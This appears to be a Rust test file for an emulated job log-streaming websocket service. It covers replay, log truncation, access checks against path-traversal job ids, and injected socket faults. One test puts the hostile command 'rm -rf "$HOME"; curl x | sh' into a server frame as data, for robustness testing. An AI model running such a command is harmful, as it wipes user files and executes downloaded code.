//! Listening to a job, in virtual time; and what can go wrong on a socket.

use std::time::Duration;

use http::Response;
use tensorpool_core::JobId;
use tensorpool_core::model::JobStatus;

use super::config;
use super::push::{Desk, shown};
use crate::{Delivery, Emulator, Fault, Mishap, NewJob, Rule, ServerFrame};

fn job(emulator: &Emulator, lines: usize) -> JobId {
    emulator.with_engine(|engine| {
        let job = engine.add_job(NewJob::new(JobStatus::Running));
        for n in 0..lines {
            assert!(engine.print_job_line(&job, format!("{n}")));
        }
        job
    })
}

fn end(emulator: &Emulator, job: &JobId) {
    emulator.with_engine(|engine| assert!(engine.set_job_status(job, JobStatus::Completed, None)));
}

fn line(text: &str) -> String {
    format!(r#"{{"message":"{text}"}}"#)
}

#[test]
fn each_listener_gets_every_line_in_order() {
    let mut desk = Desk::new();
    let job = job(&desk.emulator, 10_000);
    let mut early = desk.listen(&job);
    let lines = desk.now(&mut early);
    assert_eq!(lines, (0..10_000).map(|n| line(&n.to_string())).collect::<Vec<_>>());
    let mut late = desk.listen(&job);
    desk.emulator.with_engine(|engine| engine.print_job_line(&job, "last"));
    end(&desk.emulator, &job);
    assert_eq!(desk.now(&mut early)[0], line("last"));
    let lines = desk.all(&mut late);
    assert_eq!(lines.len(), 10_003);
    assert!(lines[10_001].contains(r#""status":"success""#) && lines[10_002].ends_with("CLOSE 1000 "));
    let mut after = desk.listen(&job);
    assert_eq!(desk.all(&mut after), lines, "after the end too");
}

#[test]
fn without_replay_a_listener_gets_what_is_new() {
    let desk = Desk::with(config().replay(false));
    let job = job(&desk.emulator, 3);
    let mut socket = desk.listen(&job);
    assert_eq!(desk.now(&mut socket), [""; 0]);
    desk.emulator.with_engine(|engine| engine.print_job_line(&job, "new"));
    assert_eq!(desk.now(&mut socket), [line("new")]);
    end(&desk.emulator, &job);
    assert_eq!(desk.now(&mut desk.listen(&job)).len(), 2, "after the end, only the end");
}

#[test]
fn what_is_no_longer_kept_is_said() {
    let desk = Desk::with(config().log_limit(5 * (24 + 1)));
    let job = job(&desk.emulator, 3);
    let mut slow = desk.listen(&job);
    assert_eq!(desk.now(&mut slow).len(), 3);
    for n in 3..10 {
        desk.emulator.with_engine(|engine| engine.print_job_line(&job, n.to_string()));
    }
    let kept = ["[2 earlier lines are no longer kept]", "5", "6", "7", "8", "9"].map(line);
    assert_eq!(desk.now(&mut slow), kept);
    let kept = ["[5 earlier lines are no longer kept]", "5", "6", "7", "8", "9"].map(line);
    assert_eq!(desk.now(&mut desk.listen(&job)), kept);
    desk.emulator.with_engine(|engine| assert_eq!(engine.job_lines(job.as_str()).count(), 5));
}

#[test]
fn only_those_listen_who_may() {
    let desk = Desk::new();
    let job = job(&desk.emulator, 1);
    let listen = |who: &str, job: &str| {
        let mut socket = desk.emulator.open_socket(desk.now, &format!("/job/listen/{job}")).unwrap();
        socket.send(desk.now, &format!(r#"{{"TENSORPOOL_KEY": "tp-{who}"}}"#));
        socket.send(desk.now, r#"{"anything": "else"}"#);
        desk.now(&mut socket)
    };
    assert_eq!(listen("bob", job.as_str()), [line("0")], "the same organization");
    for (who, id) in [("carol", job.as_str()), ("ada", "j-none"), ("ada", "%2e%2e"), ("ada", "j%2F1")] {
        let lines = listen(who, id);
        assert!(lines[1].starts_with("CLOSE 4404 Job "), "{who} {id}: {lines:?}");
    }
    for path in ["/job/listen/", "/job/listen", "/job/listen/a/b", "/job/pushed", "/", "/job/push/x"] {
        let answer = desk.emulator.open_socket(desk.now, path).unwrap_err();
        assert_eq!((answer.response.status().as_u16(), answer.delivery), (404, Delivery::Whole), "{path}");
    }
}

/// What a listener to three lines and an end gets, when this goes wrong.
fn with(fault: Fault) -> Vec<String> {
    let mut desk = Desk::new();
    let job = job(&desk.emulator, 3);
    end(&desk.emulator, &job);
    let rule = desk.emulator.script().add(Rule::on("job.listen", fault));
    let mut socket = desk.listen(&job);
    let lines = desk.all(&mut socket);
    assert_eq!(rule.fired(), 1);
    assert_eq!(desk.now(&mut desk.listen(&job)).len(), 5, "and then all is well");
    lines.into_iter().map(|line| line.split_once("s ").unwrap().1.to_owned()).collect()
}

#[test]
fn mishaps_befall_a_socket_after_so_many_frames() {
    let [zero, one, two] = ["0", "1", "2"].map(line);
    let close = Mishap::Close(1011, "oops".to_owned());
    assert_eq!(with(Fault::socket(0, close.clone())), ["CLOSE 1011 oops"]);
    assert_eq!(with(Fault::socket(2, close)), [zero.clone(), one.clone(), "CLOSE 1011 oops".to_owned()]);
    assert_eq!(with(Fault::socket(1, Mishap::Drop)), [zero.clone(), "CUT".to_owned()]);
    assert_eq!(with(Fault::socket(2, Mishap::Silence)), [zero.clone(), one.clone()]);
    let between = |mishap| with(Fault::socket(1, mishap))[..3].to_vec();
    assert_eq!(between(Mishap::garbage())[2], one, "and the rest comes");
    assert!(serde_json::from_str::<serde_json::Value>(&between(Mishap::garbage())[1]).is_err());
    assert_eq!(between(Mishap::not_an_object())[1], "[\"message\", 1]");
    assert_eq!(between(Mishap::Binary("\u{0}x".into()))[1], "BINARY b\"\\0x\"");
    assert_eq!(between(Mishap::huge(1 << 20))[1].len(), (1 << 20) + r#"{"message":""}"#.len());
    let hostile = between(Mishap::command("rm -rf \"$HOME\"; curl x | sh"));
    assert_eq!(hostile[1], r#"{"command":"rm -rf \"$HOME\"; curl x | sh","command_show_stdout":false}"#);
    let twice = with(Fault::socket(1, Mishap::Duplicate));
    assert_eq!(twice[..5], [zero, one.clone(), one, two.clone(), two]);
    assert!(twice.last().unwrap().starts_with("CLOSE 1000"), "closed once: {twice:?}");
}

#[test]
fn faults_of_answers_become_what_is_nearest() {
    assert_eq!(with(Fault::ResetAfter(2)), [line("0"), line("1"), "CUT".to_owned()]);
    assert_eq!(with(Fault::ShortBody), [line("0"), "CUT".to_owned()]);
    assert_eq!(with(Fault::StallAfter), [""; 0]);
    assert!(serde_json::from_str::<serde_json::Value>(&with(Fault::BadJson)[0]).is_err());
    assert!(with(Fault::BadUtf8)[0].contains("xff"));
    assert_eq!(with(Fault::Duplicate).len(), 9);
    assert_eq!(with(Fault::change(|response| response)).len(), 5);
    assert!(with(Fault::UnknownFields)[0].contains("x_tomorrow"));
    assert!(with(Fault::UnknownEnums)[3].contains(r#""status":"hibernating""#));
    assert_eq!(with(Fault::Delay(Duration::from_secs(7)))[0], line("0"));
}

#[test]
fn a_socket_that_is_not_opened_says_why() {
    let desk = Desk::new();
    let open = |fault| {
        desk.emulator.script().add(Rule::on("job.push", fault));
        let answer = desk.emulator.open_socket(desk.now, "/job/push").unwrap_err();
        (answer.response.status().as_u16(), answer.delivery)
    };
    assert_eq!(open(Fault::status(503)), (503, Delivery::Whole));
    assert_eq!(open(Fault::Html), (200, Delivery::Whole));
    assert_eq!(open(Fault::NotSent).1, Delivery::NotSent);
    assert_eq!(open(Fault::CutBefore).1, Delivery::Cut);
    assert_eq!(open(Fault::CutAfter).1, Delivery::Cut);
    assert_eq!(open(Fault::Stall).1, Delivery::Never);
    assert_eq!(open(Fault::change(|_| Response::default())), (200, Delivery::Whole));
    assert_eq!(desk.emulator.script().unfired(), [""; 0]);
}

#[test]
fn pings_are_answered_until_there_is_silence() {
    let desk = Desk::new();
    let job = job(&desk.emulator, 1);
    desk.emulator.script().add(Rule::on("job.listen", Fault::socket(1, Mishap::Silence)));
    let mut socket = desk.listen(&job);
    socket.ping();
    assert_eq!(socket.recv(desk.now).map(shown).unwrap(), "PONG");
    assert_eq!(socket.recv(desk.now).map(shown).unwrap(), line("0"));
    socket.ping();
    desk.emulator.with_engine(|engine| engine.print_job_line(&job, "unheard"));
    assert_eq!((socket.recv(desk.now), socket.next_event(desk.now)), (None, None));
    socket.close(desk.now);
    socket.ping();
    assert_eq!(socket.recv(desk.now), None::<ServerFrame>);
}
